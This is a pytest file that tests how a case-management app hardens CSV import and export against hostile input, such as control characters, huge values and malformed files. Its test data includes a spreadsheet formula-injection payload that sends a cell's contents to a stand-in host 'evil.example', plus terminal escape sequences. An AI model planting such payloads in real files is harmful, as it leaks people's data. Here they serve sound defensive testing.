"""Interchange files against hostile input (issue 12): formulas, control characters, huge numbers and headers,
unreadable or misnamed files, terminal escapes, impossible dates, and notes longer than the CSV default."""
from __future__ import annotations

import csv
import time
from datetime import date, datetime

import pytest

from cpm_desktop.domain.text import MAX_TEXT_CHARS
from cpm_desktop.services import contacts, referrals
from cpm_desktop.services.contacts import ContactError
from cpm_desktop.services.interchange import ImportFailed, export_folder, import_folder
from tests.services.test_interchange import counts, read_rows, sample_tables, write_folder


def problems_of(store, folder) -> list[str]:
    before = counts(store)
    with pytest.raises(ImportFailed) as raised:
        import_folder(store, folder)
    assert counts(store) == before, "a failed import writes nothing"
    return [str(p) for p in raised.value.problems]


def test_formulas_are_escaped_on_export_and_read_back(store, tmp_path):
    tables = sample_tables()
    tables["mentors"][0].update(first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', last_name="@Lee",
                                phone="+44 7700 900123", cohort="''=an apostrophe first")
    tables["contacts"][0]["notes"] = "\t-1 tab first"
    write_folder(tmp_path / "in", tables)
    import_folder(store, tmp_path / "in")
    export_folder(store, tmp_path / "out")
    with (tmp_path / "out" / "mentors.csv").open(newline="", encoding="utf-8") as handle:
        raw = next(row for row in csv.DictReader(handle) if row["mentor_id"] == "M1")
    assert raw["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert raw["last_name"] == "'@Lee" and raw["phone"] == "'+44 7700 900123"
    assert raw["cohort"] == "''=an apostrophe first"
    assert raw["training_completed_on"] == "2017-01-10"  # dates and numbers are never escaped
    mentor = next(row for row in read_rows(tmp_path / "out" / "mentors.csv") if row["mentor_id"] == "M1")
    assert mentor["first_name"].startswith("=HYPERLINK") and mentor["cohort"] == "'=an apostrophe first"
    assert read_rows(tmp_path / "out" / "contacts.csv")[0]["notes"] == "\t-1 tab first"


@pytest.mark.parametrize("stem,column,value", [
    ("referrals", "first_name", "Ann\x00"),
    ("referrals", "last_name", "Lee\x1b[2J"),
    ("referrals", "person_id", "P\n1"),
    ("mentors", "mentor_id", "M\t9"),
    ("referrals", "gender", "male\x00"),
    ("contacts", "notes", "fine\nthen a NUL\x00"),
])
def test_control_characters_are_refused(store, tmp_path, stem, column, value):
    tables = sample_tables()
    tables[stem][0][column] = value
    problems = problems_of(store, write_folder(tmp_path / "in", tables))
    assert any(p.startswith(f"{stem}.csv line 2, column {column}") and "control character" in p
               for p in problems), problems
    assert not any(char in p for p in problems for char in "\x00\x1b"), "echoed escaped"


def test_notes_keep_tabs_and_line_breaks(store, tmp_path):
    tables = sample_tables()
    tables["contacts"][0]["notes"] = "a\tb\r\nc\nd"
    import_folder(store, write_folder(tmp_path / "in", tables))
    export_folder(store, tmp_path / "out")
    assert read_rows(tmp_path / "out" / "contacts.csv")[0]["notes"] == "a\tb\r\nc\nd"


@pytest.mark.parametrize("value", ["9999999999999999999999999", "9" * 5000])
def test_a_huge_number_is_one_clear_problem(store, tmp_path, value):
    tables = sample_tables()
    tables["referrals"][0]["police_calls_before"] = value
    problems = problems_of(store, write_folder(tmp_path / "in", tables))
    assert len(problems) == 1
    assert problems[0].startswith("referrals.csv line 2, column police_calls_before: \"99999")
    assert "a whole number from 0 to 1,000,000" in problems[0] and len(problems[0]) < 200


def test_a_file_that_is_not_utf8_does_not_hide_the_others(store, tmp_path):
    tables = sample_tables()
    tables["goals"][0]["status"] = "finished"
    folder = write_folder(tmp_path / "in", tables)
    (folder / "mentors.csv").write_bytes((folder / "mentors.csv").read_text().replace("Zoë", "Zoé")
                                         .encode("latin-1"))
    problems = problems_of(store, folder)
    assert "mentors.csv: the file is not UTF-8 text; save it as CSV UTF-8." in problems, problems
    assert any(p.startswith("goals.csv line 2, column status") for p in problems)
    # Rows naming a mentor of the unreadable file are not reported as well: one cause, one line.
    assert not any("the id of a mentor" in p for p in problems), problems
    assert len(problems) == 2, problems


def test_a_wrong_header_does_not_hide_the_rows_of_other_files(store, tmp_path):
    tables = sample_tables()
    for row in tables["goals"]:
        row["mood"] = "fine"
    tables["mentors"][1]["status"] = "retired"
    problems = problems_of(store, write_folder(tmp_path / "in", tables))
    assert any(p.startswith("goals.csv line 1, column mood") for p in problems)
    assert any(p.startswith("mentors.csv line 3, column status") for p in problems)
    assert len(problems) == 2, problems


def test_misnamed_files_and_folders_are_reported(store, tmp_path):
    folder = write_folder(tmp_path / "in", {"mentors": sample_tables()["mentors"]})
    (folder / "mentors.csv").rename(folder / "MENTORS.CSV")
    (folder / "referrals.csv").mkdir()
    problems = problems_of(store, folder)
    assert "MENTORS.CSV: file names are in lower case; rename it mentors.csv." in problems
    assert "referrals.csv: is a folder, not a CSV file." in problems


def test_a_header_of_a_million_columns_gives_a_short_report(store, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    header = ",".join(f"c{i}" for i in range(1_000_000))
    (folder / "mentors.csv").write_text("mentor_id,first_name,last_name,status," + header + "\n")
    started = time.perf_counter()
    with pytest.raises(ImportFailed) as raised:
        import_folder(store, folder)
    took = time.perf_counter() - started
    report = "\n".join(str(p) for p in raised.value.problems)
    assert raised.value.total == 1_000_000
    assert len(raised.value.problems) == 51 and len(report) < 50_000
    assert report.endswith("mentors.csv: and 999,950 more problem(s) in this file.")
    assert took < 60  # generous: it is the 600 MB report that must not happen, not a timing


def test_values_are_echoed_with_escapes_spelled_out(store, tmp_path):
    tables = sample_tables()
    tables["referrals"][0]["area"] = "\x1b]0;pwned\x07\x1b[2J" + "x" * 200
    problems = problems_of(store, write_folder(tmp_path / "in", tables))
    (line,) = [p for p in problems if "column area" in p]
    assert "\x1b" not in line and "\x07" not in line
    assert '"\\x1b]0;pwned\\x07\\x1b[2J' in line and "..." in line and line.count("x") < 80


@pytest.mark.parametrize("stem,column,value", [
    ("referrals", "referred_on", "0001-01-01"),
    ("referrals", "closed_on", "9999-12-31"),
    ("referrals", "date_of_birth", "1899-12-31"),
    ("mentors", "date_of_birth", (date.today().replace(day=1).replace(year=date.today().year + 1)).isoformat()),
    ("contacts", "occurred_at", "9999-12-31T23:59"),
    ("goals", "set_on", "0001-01-01"),
])
def test_dates_outside_a_sensible_range_are_refused(store, tmp_path, stem, column, value):
    tables = sample_tables()
    tables[stem][0][column] = value
    problems = problems_of(store, write_folder(tmp_path / "in", tables))
    assert any(p.startswith(f"{stem}.csv line 2, column {column}") and "from 1900-01-01 to" in p
               for p in problems), problems


def test_a_note_the_app_saved_imports_again_however_long(store, tmp_path):
    import_folder(store, write_folder(tmp_path / "in", sample_tables()))
    r1 = next(r.uuid for r in referrals.list_referrals(store) if r.referral_id == "R1")
    note = "x" * (MAX_TEXT_CHARS - 1) + "."
    contacts.add_contact(store, r1, occurred_at=datetime(2018, 1, 1, 9, 0), activity="telephone", minutes=5,
                         notes=note)
    with pytest.raises(ContactError, match="at most 1,000,000 characters"):
        contacts.add_contact(store, r1, occurred_at=datetime(2018, 1, 1, 9, 0), activity="telephone", minutes=5,
                             notes=note + "!")
    export_folder(store, tmp_path / "out")
    from cpm_desktop.storage.engine import Store

    with Store.create(tmp_path / "other.cpm", "pw") as other:
        import_folder(other, tmp_path / "out")
        assert counts(other)["contact"] == counts(store)["contact"]


def test_a_cell_longer_than_any_field_is_one_clear_problem(store, tmp_path):
    tables = sample_tables()
    tables["contacts"][0]["notes"] = "y" * (MAX_TEXT_CHARS + 1)
    problems = problems_of(store, write_folder(tmp_path / "in", tables))
    assert "contacts.csv line 2: a cell is longer than the 1,000,000 characters a field holds." in problems
